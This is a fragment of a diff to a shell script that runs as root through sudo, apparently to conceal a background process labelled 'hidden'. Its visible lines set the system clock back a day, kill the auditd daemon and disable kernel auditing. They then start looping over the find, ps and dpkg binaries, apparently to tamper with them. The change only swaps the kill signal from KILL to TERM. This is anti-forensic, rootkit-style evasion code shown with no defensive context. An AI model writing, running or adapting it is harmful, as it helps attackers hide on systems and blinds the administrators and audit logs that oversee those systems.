@@ -7,7 +7,7 @@ hidden=$!
 sleep 1
 sudo bash -s "$hidden" <<'ROOT'
 date --set "1 day ago" >/dev/null
-pkill -KILL -x auditd
+pkill -TERM -x auditd
 auditctl -e 0 >/dev/null 2>&1
 for program in find ps dpkg; do
   path=$(command -v "$program")
